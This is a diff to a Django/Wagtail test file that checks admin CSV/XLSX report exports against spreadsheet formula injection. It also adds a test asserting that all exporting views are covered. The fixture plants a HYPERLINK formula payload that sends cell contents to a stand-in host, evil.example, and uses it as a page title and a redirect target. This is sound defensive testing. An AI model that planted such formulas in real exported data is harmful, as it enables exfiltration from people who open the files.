@@ -4,8 +4,10 @@ import csv
 import io
 
 import pytest
+from django.utils import timezone
 from openpyxl import load_workbook
-from wagtail.models import Page
+from wagtail.contrib.redirects.models import Redirect
+from wagtail.models import GroupApprovalTask, Page, Workflow
 
 from cms.exports import neutralise
 from cms.models import HomePage
@@ -15,16 +17,49 @@ from .factories import StaffFactory
 pytestmark = pytest.mark.django_db
 
 EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
-REPORTS = ["/admin/reports/site-history/", "/admin/reports/aging-pages/"]
+# Every admin view that offers a CSV/XLSX download (test_every_export_view_is_covered).
+REPORTS = [
+    "/admin/reports/site-history/",
+    "/admin/reports/aging-pages/",
+    "/admin/reports/locked/",
+    "/admin/reports/workflow/",
+    "/admin/reports/workflow_tasks/",
+    "/admin/redirects/",
+]
 
 
 @pytest.fixture
 def admin_client(client):
+    """A formula as a page title (published, locked, in moderation) and as a redirect target."""
     admin = StaffFactory(is_staff=True, is_superuser=True)
     page = Page.get_first_root_node().add_child(instance=HomePage(title=EVIL, slug="evil"))
     page.save_revision(user=admin).publish(user=admin)
+    workflow = Workflow.objects.filter(active=True).first() or Workflow.objects.create(
+        name="Review"
+    )
+    if not workflow.workflow_tasks.exists():
+        task = GroupApprovalTask.objects.create(name="Approve")
+        workflow.workflow_tasks.create(task=task, sort_order=0)
+    page.save_revision(user=admin)
+    workflow.start(page.specific, admin)
+    Page.objects.filter(pk=page.pk).update(locked=True, locked_by=admin, locked_at=timezone.now())
+    Redirect.objects.create(old_path="/old", redirect_link=EVIL)
     client.force_login(admin)
     return client
+
+
+def test_every_export_view_is_covered():
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    from .url_matrix import routes
+
+    exporting = set()
+    for route in routes():
+        view = getattr(route.pattern.callback, "view_class", None)
+        if view and issubclass(view, SpreadsheetExportMixin) and view.list_export:
+            if not route.route.endswith("results/"):
+                exporting.add("/" + route.route)
+    assert exporting == set(REPORTS)
 
 
 def _csv_cells(response) -> list[str]:
